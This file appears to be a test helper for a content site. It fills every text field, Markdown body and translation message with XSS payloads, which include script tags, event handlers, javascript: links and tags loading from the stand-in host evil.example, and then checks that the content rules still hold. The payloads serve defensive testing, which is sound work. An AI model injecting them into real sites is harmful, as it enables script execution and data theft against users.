import { cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { vi } from 'vitest';
import { parse, stringify } from 'yaml';
import type { z } from 'zod';
import { checkContent } from '@/lib/check/check-content';
import { translationSchemas } from '@/lib/content/read/translation-fields';
import { collections } from '@/lib/content/schema/collections';
import { wordings } from '@/lib/content/schema/fields';
import { schemas } from '@/lib/content/schema/schemas';
import type { Lang } from '@/lib/i18n/languages';
import type { Problem } from '@/lib/source/problem';
import { itemOf, rebuild } from '@/lib/source/walk';
import { makeTemporaryFolder } from './content-factory';

/** Known ways to run code or to load something, short enough for a title. */
export const payloads = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '</title><script>alert(2)</script>',
  '</script><script>alert(3)</script>',
  '</style><script>alert(4)</script>',
  '</textarea><script>alert(5)</script>',
  '--><script>alert(6)</script>',
  ']]><script>alert(7)</script>',
  '"><script>alert(8)</script>',
  "'><script>alert(9)</script>",
  '<img src=x onerror=alert(10)>',
  '<img src=//evil.example/i>',
  '"><img src=x onerror=alert(11)>',
  '" onmouseover="alert(12)',
  "' onfocus='alert(13)",
  '" autofocus onfocus=alert(14) x="',
  '<svg onload=alert(15)>',
  '<svg><script>alert(16)</script></svg>',
  '<iframe src=//evil.example></iframe>',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/c>',
  '<style>@import "//evil.example/c"</style>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<form action=//evil.example><button>x</button></form>',
  '<details open ontoggle=alert(17)>',
  '<video src=//evil.example onerror=alert(18)>',
  '<a href=javascript:alert(19)>x</a>',
  '[x](javascript:alert(20))',
  '![x](//evil.example/i)',
  '&lt;script&gt;alert(21)&lt;/script&gt;',
  '<math><mtext><img src onerror=alert(22)></math>',
];

/** As many payloads as fit into a field, beginning with the next one. */
function makeAdder() {
  let next = 0;
  return (text: string, most: number): string => {
    let full = text;
    for (let i = 0; i < payloads.length; i++) {
      const payload = payloads[next % payloads.length] ?? '';
      if (full.length + 1 + payload.length > most) break;
      full += ` ${payload}`;
      next++;
    }
    return full;
  };
}

type Add = ReturnType<typeof makeAdder>;

/** A page has room for three such texts in its head, which the rule "heads" measures. */
const mostLetters = 140;

/** Fields with payloads in each of their words, except in those that stay `unchanged`. */
const hostileFields = (
  schema: z.ZodType,
  fields: unknown,
  add: Add,
  unchanged: ReadonlySet<string>,
) =>
  rebuild(schema, fields, ({ schema: field, value, path: at }) => {
    if (unchanged.has(at.join('.'))) return { value };
    const item = itemOf(field);
    if (item && wordings.get(field)?.wording === 'free list' && Array.isArray(value))
      return { value: value.map((each) => add(String(each), 200)) };
    return typeof value === 'string' && wordings.has(field)
      ? {
          value: add(value, Math.min((field as z.ZodString).maxLength ?? mostLetters, mostLetters)),
        }
      : undefined;
  });

/** Payloads as words of Markdown: each sign is escaped. */
const escaped = (text: string) => text.replace(/[!-/:-@[-`{-~]/g, '\\$&');

/** A body with payloads in a paragraph, in code, in a link, in a table and in its footnotes. */
function hostileBody(body: string, add: Add): string {
  if (body.trim() === '') return body;
  const words = () => escaped(add('', 400));
  const code = () => add('', 200).replaceAll('`', '');
  const withNotes = body.trim().replace(/^(\[\^.+\]:.*)$/gm, (note) => `${note} ${words()}`);
  return `${withNotes}

${words()} \`${code()}\` [${words()}](https://example.org/) *${words().trim()}*

| a | b |
| --- | --- |
| ${words()} | ${words()} |

    ${code()}`;
}

/** Messages with payloads after each of them, except those that stay `unchanged`. */
function hostileMessages(
  tree: unknown,
  add: Add,
  unchanged: ReadonlySet<string>,
  key = '',
): unknown {
  if (typeof tree === 'string') return unchanged.has(key) ? tree : add(tree, tree.length + 150);
  return Object.fromEntries(
    Object.entries(tree as object).map(([name, inner]) => [
      name,
      hostileMessages(inner, add, unchanged, key === '' ? name : `${key}.${name}`),
    ]),
  );
}

/**
 * A copy of a content folder with payloads in every place that takes words and still keeps every
 * rule, in English and in a translation; removed when the running test ends.
 */
export function makeHostileContent(original: string, lang: Lang): void {
  const folder = makeTemporaryFolder();
  cpSync(original, folder, { recursive: true });
  const ofMessages = `translations/${lang}/messages.yaml`;
  cpSync(path.join('content', ofMessages), path.join(folder, ofMessages));
  vi.stubEnv('CONTENT_DIR', folder);
  const known = new Set(checkContent(folder).problems.map(({ file }) => file));
  const unchanged = new Map<string, Set<string>>();
  for (let round = 0; round < 20; round++) {
    const add = makeAdder();
    const unchangedIn = (file: string) => unchanged.get(file) ?? new Set<string>();
    for (const [place, group] of [
      ['', schemas],
      [`translations/${lang}/`, translationSchemas],
    ] as const)
      for (const collection of collections)
        for (const file of filesIn(original, `${place}${collection}`)) {
          const source = readFileSync(path.join(original, file), 'utf8');
          const [, front = '', body = ''] = /^---\n([\s\S]*?)\n---\n([\s\S]*)$/.exec(source) ?? [];
          const fields = hostileFields(group[collection], parse(front), add, unchangedIn(file));
          const text = unchangedIn(file).has('text') ? body : hostileBody(body, add);
          writeFileSync(path.join(folder, file), `---\n${yaml(fields)}---\n\n${text}\n`);
        }
    const messages = parse(readFileSync(path.join('content', ofMessages), 'utf8'));
    writeFileSync(
      path.join(folder, ofMessages),
      yaml(hostileMessages(messages, add, unchangedIn(ofMessages))),
    );
    const problems = checkContent(folder).problems.filter(({ file }) => !known.has(file));
    if (problems.length === 0) return;
    for (const { file, field } of problems) unchanged.set(file, unchangedIn(file).add(field));
  }
  throw new Error(
    `no such content keeps every rule: ${JSON.stringify(checkContent(folder).problems.slice(0, 5) satisfies Problem[])}`,
  );
}

/** Fields as YAML; the signs of direction that messages have are escaped there. */
const yaml = (fields: unknown) =>
  stringify(fields, {
    lineWidth: 0,
    defaultStringType: 'QUOTE_DOUBLE',
    defaultKeyType: 'PLAIN',
  }).replace(/[\u200E\u200F\u2066-\u2069]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16)}`);

function filesIn(folder: string, place: string): string[] {
  try {
    return readdirSync(path.join(folder, place)).map((name) => `${place}/${name}`);
  } catch {
    return [];
  }
}
